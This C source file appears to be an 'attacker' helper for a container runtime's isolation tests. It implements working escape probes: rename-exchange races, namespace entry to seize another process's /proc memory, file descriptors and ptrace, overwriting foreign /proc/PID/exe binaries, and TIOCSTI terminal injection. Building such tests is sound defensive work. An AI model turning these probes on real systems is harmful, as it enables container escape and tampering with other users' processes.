// SPDX-License-Identifier: Apache-2.0
// What attackers do, from a container or beside one:
//     attacker swap A B SECONDS      exchanges two names as fast as it can
//     attacker prowl PID TARGET      as a process of PID's container: tries to get hold of the process TARGET
//     attacker infect SECONDS FILE   opens every foreign /proc/PID/exe and tries to write there, until a file appears
//     attacker type                  puts a letter into the input of the terminal that is standard input: TIOCSTI
//     attacker keys                  the serial number of the session keyring
//     attacker deny CALL ERRNO COMMAND...   runs a command for which this system call, given by number, fails
// What succeeds is a line of output that begins with "got".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int swap(char **w)
{
    for (double end = now() + atof(w[2]); now() < end;)
        for (int i = 0; i < 100; i++) syscall(SYS_renameat2, AT_FDCWD, w[0], AT_FDCWD, w[1], 2 /* RENAME_EXCHANGE */);
    return 0;
}

// --- prowl

static unsigned long long status_number(int pid, const char *key, int base)
{
    char path[64], line[256];
    unsigned long long value = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "re");
    while (file && fgets(line, sizeof line, file))
        if (!strncmp(line, key, strlen(key))) {
            char *last = strrchr(line, '\t'); // NSpid: the last is the innermost
            value = strtoull(last ? last + 1 : line, NULL, base);
        }
    if (file) fclose(file);
    return value;
}

static void become_like(unsigned long long caps)
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {
        {(unsigned)caps, (unsigned)caps, 0}, {(unsigned)(caps >> 32), (unsigned)(caps >> 32), 0}};
    if (syscall(SYS_capset, &header, data)) _exit(4);
}

static void try_process(int pid)
{
    char path[64], link[4096], byte;
    snprintf(path, sizeof path, "/proc/%d/root/proc", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) printf("got %s\n", path), close(fd);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    if (readlink(path, link, sizeof link) >= 0) printf("got %s\n", path);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) printf("got %s\n", path), close(fd);
    for (int i = 0; i < 64; i++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
        fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0) printf("got %s\n", path), close(fd);
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int i = 0; pidfd >= 0 && i < 64; i++) {
        fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
        if (fd >= 0) printf("got descriptor %d\n", i), close(fd);
    }
    if (pidfd >= 0) close(pidfd);
    // Its stack is elsewhere: EFAULT is the answer to who may read.
    struct iovec here = {&byte, 1}, there = {&byte, 1};
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT) printf("got memory\n");
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) printf("got it traced\n");
}

// The target's number inside is the last of NSpid; nothing to do before it is in the container's pid namespace.
static int prowl(char **w)
{
    int container = atoi(w[0]), target = atoi(w[1]);
    char a[64], b[64], one[64] = "", other[64] = "";
    snprintf(a, sizeof a, "/proc/%d/ns/pid", container);
    snprintf(b, sizeof b, "/proc/%d/ns/pid", target);
    if (readlink(a, one, 63) < 0 || readlink(b, other, 63) < 0 || strcmp(one, other)) return 0;
    int inner = (int)status_number(target, "NSpid:", 10);
    unsigned long long caps = status_number(container, "CapPrm:", 16);
    int fd = (int)syscall(SYS_pidfd_open, container, 0);
    int kinds = CLONE_NEWPID | CLONE_NEWNS;
    snprintf(a, sizeof a, "/proc/%d/ns/user", container);
    if (readlink(a, one, 63) > 0 && readlink("/proc/self/ns/user", other, 63) > 0 && strcmp(one, other))
        kinds |= CLONE_NEWUSER;
    if (setns(fd, kinds)) return perror("attacker: setns"), 3;
    pid_t child = fork();
    if (child == 0) {
        become_like(caps);
        printf("tried %d\n", inner);
        try_process(inner);
        fflush(stdout);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    return 0;
}

// --- infect

static int is_ours(const struct stat *s)
{
    static const char *own[] = {"/proc/self/exe", "/bin/busybox", "/bin/probe"};
    struct stat t;
    for (int i = 0; i < 3; i++)
        if (stat(own[i], &t) == 0 && s->st_ino == t.st_ino && s->st_dev == t.st_dev) return 1;
    return 0;
}

static int found[64], found_count;

static void collect(void)
{
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc)) && found_count < 64;) {
        char path[300];
        struct stat s;
        if (atoi(e->d_name) <= 0) continue;
        snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        if (fstat(fd, &s) || is_ours(&s)) close(fd);
        else found[found_count++] = fd;
    }
    if (proc) closedir(proc);
}

static int infect(char **w)
{
    double end = now() + atof(w[0]), stop = end;
    while (now() < stop) {
        // And half a second longer: what runs no more can be written.
        if (stop == end && access(w[1], F_OK) == 0) stop = now() + 0.5;
        if (found_count < 64) collect();
        for (int i = 0; i < found_count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", found[i]);
            int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (fd < 0) continue;
            if (write(fd, "infected", 8) == 8) {
                printf("got written\n");
                return 0;
            }
            close(fd);
        }
    }
    printf("met %d\n", found_count);
    return 0;
}

static int type_letter(void)
{
    if (ioctl(0, TIOCSTI, "x") == 0) printf("got typed\n");
    else printf("refused %d\n", errno);
    return 0;
}

static int keys(void)
{
    printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -3 /* KEY_SPEC_SESSION_KEYRING */, 0));
    return 0;
}

static int deny(char **w)
{
    struct sock_filter program[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)atoi(w[0]), 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | (unsigned)atoi(w[1])),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog filter = {4, program};
    if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &filter)) return perror("attacker: seccomp"), 125;
    execv(w[2], w + 2);
    return 127;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 5 && !strcmp(argv[1], "swap")) return swap(argv + 2);
    if (argc == 4 && !strcmp(argv[1], "prowl")) return prowl(argv + 2);
    if (argc == 4 && !strcmp(argv[1], "infect")) return infect(argv + 2);
    if (argc == 2 && !strcmp(argv[1], "type")) return type_letter();
    if (argc == 2 && !strcmp(argv[1], "keys")) return keys();
    if (argc > 4 && !strcmp(argv[1], "deny")) return deny(argv + 2);
    return 125;
}
